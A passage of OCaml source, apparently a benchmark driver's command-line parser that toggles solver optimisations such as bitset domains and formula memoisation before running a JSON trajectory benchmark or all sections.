      | "--smoke" :: rest ->
        smoke := true;
        parse rest
      | "--tag" :: v :: rest ->
        tag := v;
        parse rest
      | "--no-bitset" :: rest ->
        Homeguard_solver.Domain.bitset_enabled := false;
        fastpath := !fastpath ^ ";no-bitset";
        parse rest
      | "--no-memo" :: rest ->
        Homeguard_solver.Formula.memo_enabled := false;
        fastpath := !fastpath ^ ";no-memo";
        parse rest
      | ("--help" | "-h") :: _ ->
        usage ();
        exit 0
      | arg :: _ ->
        prerr_endline ("bench: unknown argument " ^ arg);
        usage ();
        exit 2
    in
    parse args;
    if !json then run_trajectory ~smoke:!smoke ~fastpath:!fastpath ~tag:!tag
    else run_all_sections ()
  | [] -> run_all_sections ()
